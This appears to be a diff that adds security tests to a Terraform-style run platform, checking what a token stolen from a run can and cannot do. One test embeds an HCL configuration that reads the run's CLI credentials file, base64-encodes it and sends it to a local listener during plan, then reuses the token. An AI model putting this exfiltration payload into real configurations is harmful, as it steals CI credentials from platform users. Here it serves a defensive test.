@@ -1,6 +1,7 @@
 """A3, A12: what a run does with its own token, taken out of the run by whoever wrote it."""
 
 import re
+from base64 import b64decode
 from collections.abc import Callable, Iterator
 
 import httpx2
@@ -92,6 +93,63 @@ def test_it_reads_what_the_run_may_and_nothing_else_and_writes_nothing(
     gate.open("stolen")
     client.wait(run, "applied")
     assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 401
+    thief.close()
+
+
+_STEAL_IN_PLAN = """
+locals { loot = replace(base64encode(file("/landform/in/cli.tfrc")), "/", "_") }
+data "terraform_remote_state" "thief" {
+  backend = "http"
+  config  = { address = "http://127.0.0.1:GATE/stolen/${local.loot}", retry_max = 0 }
+}
+data "terraform_remote_state" "pause" {
+  backend    = "http"
+  config     = { address = "http://127.0.0.1:GATE/plan/paused", retry_max = 0 }
+  depends_on = [data.terraform_remote_state.thief]
+}
+resource "terraform_data" "x" { input = "a" }
+"""
+
+
+def test_a_plan_s_does_nothing_that_only_an_apply_may_and_ends_with_the_plan(
+    known: Platform, client: Client, workspace: str, gate: Gate
+) -> None:
+    gate.hold("plan/paused")
+    archive = pack({"main.tf": _STEAL_IN_PLAN.replace("GATE", str(gate.port))})
+    run = client.start(workspace, client.upload(workspace, archive))
+    gate.wait_for("plan/paused")
+    (loot,) = {
+        visit.place.removeprefix("stolen/")
+        for visit in gate.visits
+        if visit.place.startswith("stolen/")
+    }
+    found = re.search(r'token\s*=\s*"([^"]+)"', b64decode(loot.replace("_", "/")).decode())
+    assert found
+    thief = Client(known.url, found[1])
+    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 200  # it is a token
+    refused = {403, 404}
+    assert thief.upload_state(workspace, b"{}").status_code in refused
+    assert thief.try_variable(workspace, "k", "v").status_code in refused
+    for action in ("apply", "discard", "cancel", "force-cancel"):
+        assert thief.raw("POST", f"/runs/{run}/actions/{action}").status_code in refused
+    assert thief.raw("POST", f"/workspaces/{workspace}/actions/lock").status_code in refused
+    gate.open("plan/paused")
+    client.wait(run, "planned")
+    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 401
+    thief.close()
+    assert client.act(run, "discard") == 202
+
+
+def test_it_opens_nothing_of_another_organization(
+    client: Client, steal: Callable[[], tuple[str, Client]], gate: Gate
+) -> None:
+    client.make_organization("attacked")
+    other = client.make_workspace("attacked", "theirs")
+    _, thief = steal()
+    for path in ("/organizations/attacked", "/organizations/attacked/workspaces"):
+        assert thief.raw("GET", path).status_code == 404
+    for path in ("", "/current-state-version", "/vars", "/runs", "/configuration-versions"):
+        assert thief.raw("GET", f"/workspaces/{other}{path}").status_code == 404
     thief.close()
 
 
